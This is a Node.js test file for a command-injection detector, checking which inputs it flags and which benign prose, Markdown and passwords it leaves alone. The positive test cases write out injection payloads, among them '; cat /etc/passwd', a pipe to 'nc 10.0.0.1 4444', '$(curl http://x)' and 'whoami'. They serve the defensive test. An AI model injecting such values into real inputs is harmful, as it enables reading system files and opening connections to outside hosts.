import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { charFlags } from '../../../../../daemon/security/threats/char-flags.js';
import { detectCommand, detectCommandFlagged } from '../../../../../daemon/security/threats/command.js';

describe('command injection', () => {
  test('flags a separator or substitution followed by a command', () => {
    for (const input of ['127.0.0.1; cat /etc/passwd', 'x && whoami', 'a | nc 10.0.0.1 4444', 'file`id`', 'q=$(curl http://x)', 'x || ping -c 3 10.0.0.1', 'a;ls -la', 'name\nuname -a']) {
      assert.equal(detectCommand(input)?.type, 'command_injection', input);
    }
  });

  test('leaves prose, Markdown and passwords alone', () => {
    for (const input of ["it's 5 o'clock; let's go", 'Tom & Jerry', 'Rock & roll; cat lovers unite', 'make `words` use `random_choices`', 'K#8"q;Lz\'p(9)|w', 'cats | dogs', 'find me; type later', 'Run `ls -la` first', 'Use `rm -rf build` to clean', 'a;SH', 'x|Rm']) {
      assert.equal(detectCommand(input), null, input);
    }
  });

  test('answers the same with flags the caller computed', () => {
    assert.deepEqual(detectCommandFlagged('x && whoami', charFlags('x && whoami')), { type: 'command_injection', rule: 'command.separator', confidence: 0.9, evidence: '&& whoami' });
    assert.equal(detectCommandFlagged('Tom & Jerry', charFlags('Tom & Jerry')), null);
    // Flags without a separator character end the search before any regex.
    assert.equal(detectCommandFlagged('a;ls -la', 0), null);
    for (const input of ['', '\0', 'a\0b', 'caf\u00e9', '\u212a\u0130', 'x'.repeat(70_000), `${'a '.repeat(20_000)}<script>`, '\u2019 or \u20181\u2019=\u20191']) {
      assert.deepEqual(detectCommandFlagged(input, charFlags(input)), detectCommand(input), input.slice(0, 40));
    }
  });
});
